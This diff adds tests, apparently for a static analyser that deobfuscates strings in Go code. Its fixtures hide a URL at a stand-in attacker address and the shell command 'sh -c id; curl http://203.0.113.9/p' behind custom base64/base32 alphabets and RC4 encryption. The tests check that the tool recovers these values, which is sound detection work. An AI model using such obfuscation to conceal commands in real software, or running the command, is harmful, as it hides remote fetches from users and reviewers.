@@ -119,6 +119,47 @@ func f() {
   assert.deepEqual(values(argOf(p, 'fmt.Println', 2)), []);
 });
 
+test('custom alphabets: base64/base32 NewEncoding, WithPadding(NoPadding), Strict', () => {
+  const p = body(
+    '"encoding/base32"\n"encoding/base64"\n"fmt"',
+    `var enc = base64.NewEncoding("ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_")
+
+func f() {
+	a, _ := enc.DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z=")
+	b, _ := enc.WithPadding(base64.NoPadding).Strict().DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z")
+	c, _ := base32.NewEncoding("QWERTYUIOPASDFGHJKLZXCVBNM765432").DecodeString("FYLQ====")
+	d, _ := enc.DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z")
+	fmt.Println(string(a), string(b), string(c), string(d))
+}`,
+  );
+  const a = argOf(p, 'fmt.Println', 0);
+  assert.deepEqual(values(a), ['http://203.0.113.9/p']);
+  assert.ok(a[0]!.how.includes('base64'), a[0]!.how.join(','));
+  assert.deepEqual(values(argOf(p, 'fmt.Println', 1)), ['http://203.0.113.9/p']);
+  assert.deepEqual(values(argOf(p, 'fmt.Println', 2)), ['id']);
+  // Padding is required by default, as in Go.
+  assert.deepEqual(values(argOf(p, 'fmt.Println', 3)), []);
+});
+
+test('crypto/rc4: XORKeyStream with a literal key, in place, the stream continuing across calls', () => {
+  const p = body(
+    '"crypto/rc4"\n"fmt"',
+    `var blob = []byte{13, 252, 37, 20, 140, 30}
+var tail = []byte{13, 129, 121, 5, 17, 53, 118, 193, 122, 193, 176, 227, 90, 234, 214, 90, 56, 64, 29, 16, 223, 48, 181, 10, 7, 240, 141, 1, 108}
+
+func f() {
+	c, _ := rc4.NewCipher([]byte("k3y"))
+	out := make([]byte, len(blob))
+	c.XORKeyStream(out, blob)
+	c.XORKeyStream(tail, tail)
+	fmt.Println(string(out)+string(tail))
+}`,
+  );
+  const r = argOf(p, 'fmt.Println', 0);
+  assert.deepEqual(values(r), ['sh -c id; curl http://203.0.113.9/p']);
+  assert.ok(r[0]!.how.includes('xor'), r[0]!.how.join(','));
+});
+
 test('char codes: rune literals, string(rune(65)), string([]byte{104,105})', () => {
   const p = body('"fmt"', "func f() { fmt.Println(string(rune(65))+string('b'), string([]byte{104, 105}), string([]rune{0x263a})) }");
   assert.deepEqual(values(argOf(p, 'fmt.Println', 0)), ['Ab']);
